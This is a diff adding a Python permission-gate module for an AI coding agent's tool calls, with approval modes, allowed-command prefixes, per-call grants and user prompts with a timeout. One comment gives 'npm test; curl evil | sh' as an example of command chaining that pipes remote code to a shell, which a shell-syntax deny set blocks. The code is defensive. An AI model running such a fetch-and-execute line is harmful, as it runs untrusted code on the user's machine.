@@ -1,0 +1,230 @@
+"""The user's say over tool calls: the approval policy, grants, and asking the editor.
+
+One :class:`PermissionGate` per ask implements ``tooling.permissions.Permissions``:
+the runtime hands it every destructive call before it runs. The gate decides from
+
+- the ``approval`` setting: ``on-request`` asks only for calls that require it (a bash
+  escalation, or any bash call where the system has no sandbox), ``always`` asks for
+  every bash/write_file/edit_file call too, ``never`` asks nothing and refuses what
+  would require asking;
+- the user's own ``allowedCommands`` (bash command prefixes that run without asking);
+- the conversation's grants: an ``allow_always`` or ``reject_always`` answer is bound to
+  the exact call (tool name + a digest of its arguments), so a changed command is asked
+  about again;
+- otherwise the user, through an :class:`Asker` (``agent/requestPermission`` over LSP),
+  within ``permissionTimeout`` seconds (unanswered counts as declined).
+
+Cancelling the ask cancels the pending request (the asker withdraws it from the client).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import time
+import uuid
+from collections.abc import Callable, Mapping, Sequence
+from dataclasses import dataclass, field
+from typing import Any, Protocol
+
+from tooling.permissions import PermissionDecision, PermissionRequest
+
+from .activity import summarize_arguments
+from .events import AgentEvent, PermissionAnswered, PermissionRequested
+
+APPROVAL_MODES: tuple[str, ...] = ("on-request", "always", "never")
+DEFAULT_PERMISSION_TIMEOUT = 300.0
+MAX_PERMISSION_TIMEOUT = 3600.0
+# ACP's option kinds; each option's id is its kind.
+ALLOW_ONCE, ALLOW_ALWAYS = "allow_once", "allow_always"
+REJECT_ONCE, REJECT_ALWAYS = "reject_once", "reject_always"
+OPTIONS: tuple[tuple[str, str], ...] = (
+    (ALLOW_ONCE, "Allow once"),
+    (ALLOW_ALWAYS, "Allow always (this conversation, this exact call)"),
+    (REJECT_ONCE, "Reject"),
+    (REJECT_ALWAYS, "Reject always (this conversation, this exact call)"),
+)
+# A command with any of these is never matched by an allowedCommands prefix: they
+# chain, substitute or redirect, so "npm test; curl evil | sh" is not "npm test".
+SHELL_SYNTAX = frozenset(";&|<>$`()\\\n\r{}")
+
+
+def call_digest(tool_name: str, arguments: Mapping[str, Any]) -> str:
+    """What a grant is bound to: the tool and its exact (canonical) arguments."""
+    canonical = json.dumps([tool_name, arguments], sort_keys=True, separators=(",", ":"))
+    return hashlib.sha256(canonical.encode()).hexdigest()
+
+
+def allowed_by_prefix(command: str, prefixes: Sequence[str]) -> bool:
+    """Whether ``command`` is one of the user's allowed commands (word-wise prefix)."""
+    words = command.split()
+    if not words or any(ch in SHELL_SYNTAX for ch in command):
+        return False
+    for prefix in prefixes:
+        wanted = prefix.split()
+        if wanted and words[: len(wanted)] == wanted:
+            return True
+    return False
+
+
+@dataclass(frozen=True)
+class Grant:
+    grant_id: str
+    digest: str
+    tool_name: str
+    arguments: str  # canonical JSON, for listing
+    title: str
+    decision: str  # "allow" or "reject"
+    created: float
+
+
+@dataclass
+class GrantStore:
+    """One conversation's always-answers (in memory; dropped with the conversation)."""
+
+    _grants: dict[str, Grant] = field(default_factory=dict)
+
+    def find(self, digest: str) -> Grant | None:
+        return next((g for g in self._grants.values() if g.digest == digest), None)
+
+    def add(self, request: PermissionRequest, title: str, decision: str) -> Grant:
+        arguments = json.dumps(request.arguments, sort_keys=True, ensure_ascii=False)
+        grant = Grant(
+            grant_id=uuid.uuid4().hex[:12],
+            digest=call_digest(request.tool_name, request.arguments),
+            tool_name=request.tool_name,
+            arguments=arguments,
+            title=title,
+            decision=decision,
+            created=time.time(),
+        )
+        self._grants[grant.grant_id] = grant
+        return grant
+
+    def list(self) -> list[Grant]:
+        return sorted(self._grants.values(), key=lambda g: g.created)
+
+    def revoke(self, grant_id: str) -> bool:
+        return self._grants.pop(grant_id, None) is not None
+
+
+@dataclass(frozen=True)
+class ApprovalPolicy:
+    approval: str = "on-request"
+    allowed_commands: tuple[str, ...] = ()
+    timeout: float = DEFAULT_PERMISSION_TIMEOUT
+
+
+@dataclass(frozen=True)
+class PermissionPrompt:
+    """What the user is shown (the ``agent/requestPermission`` params, minus the wire)."""
+
+    session_id: str
+    call_id: str
+    tool_name: str
+    arguments: Mapping[str, Any]
+    title: str
+    reason: str
+
+
+class Asker(Protocol):
+    def can_ask(self) -> bool:
+        """Whether the client declared it can answer permission requests."""
+        ...
+
+    async def ask(self, prompt: PermissionPrompt) -> str | None:
+        """The kind of the option the user chose, or None (dismissed, or an error)."""
+        ...
+
+
+class PermissionGate:
+    """The permission decisions of one ask."""
+
+    def __init__(
+        self,
+        policy: ApprovalPolicy,
+        grants: GrantStore,
+        asker: Asker | None,
+        *,
+        session_id: str,
+        emit: Callable[[AgentEvent], None],
+    ) -> None:
+        self._policy = policy
+        self._grants = grants
+        self._asker = asker
+        self._session_id = session_id
+        self._emit = emit
+
+    async def authorize(self, request: PermissionRequest) -> PermissionDecision:
+        permission = request.permission
+        required = permission is not None and permission.required
+        if not required and self._policy.approval != "always":
+            return PermissionDecision(True)
+        title = permission.title if permission else _title(request)
+        if required and self._policy.approval == "never":
+            return PermissionDecision(
+                False,
+                f"this call needs the user's permission ({title}), and the user's settings "
+                'refuse every such request (approval: "never"). Do it without that, or tell '
+                "the user what is needed.",
+            )
+        command = request.arguments.get("command")
+        if isinstance(command, str) and allowed_by_prefix(command, self._policy.allowed_commands):
+            return PermissionDecision(True)
+        grant = self._grants.find(call_digest(request.tool_name, request.arguments))
+        if grant is not None:
+            if grant.decision == "allow":
+                return PermissionDecision(True)
+            return PermissionDecision(
+                False,
+                "the user declined this exact call for the rest of the conversation "
+                '("reject always"). Do not repeat it; continue without it, or ask the user.',
+            )
+        if self._asker is None or not self._asker.can_ask():
+            return PermissionDecision(
+                False,
+                f"this call needs the user's permission ({title}), but the editor cannot ask "
+                "the user (its client does not support agent/requestPermission). Do it "
+                "without that, or tell the user what is needed.",
+            )
+        return await self._ask(request, title, permission.reason if permission else "")
+
+    async def _ask(self, request: PermissionRequest, title: str, reason: str) -> PermissionDecision:
+        prompt = PermissionPrompt(
+            self._session_id, request.call_id, request.tool_name, request.arguments, title, reason
+        )
+        self._emit(
+            PermissionRequested(request.call_id, request.tool_name, request.raw_arguments, title)
+        )
+        choice: str | None
+        try:
+            async with asyncio.timeout(self._policy.timeout):
+                choice = await self._asker.ask(prompt)  # type: ignore[union-attr]
+        except TimeoutError:
+            choice = "timeout"
+        allowed = choice in (ALLOW_ONCE, ALLOW_ALWAYS)
+        self._emit(
+            PermissionAnswered(request.call_id, request.tool_name, request.raw_arguments, allowed)
+        )
+        if choice in (ALLOW_ALWAYS, REJECT_ALWAYS):
+            self._grants.add(request, title, "allow" if allowed else "reject")
+        if allowed:
+            return PermissionDecision(True)
+        if choice == "timeout":
+            detail = f" (no answer within {self._policy.timeout:g} s counts as declined)"
+        elif choice is None:
+            detail = " (the request was dismissed)"
+        elif choice == REJECT_ALWAYS:
+            detail = ", and will decline this exact call for the rest of the conversation"
+        else:
+            detail = ""
+        return PermissionDecision(
+            False,
+            f"the user declined this call ({title}){detail}. Do not retry it the same way; "
+            "continue without it, or ask the user what to do.",
+        )
+
+
+def _title(request: PermissionRequest) -> str:
+    return f"{request.tool_title}: {summarize_arguments(request.tool_name, request.raw_arguments)}"
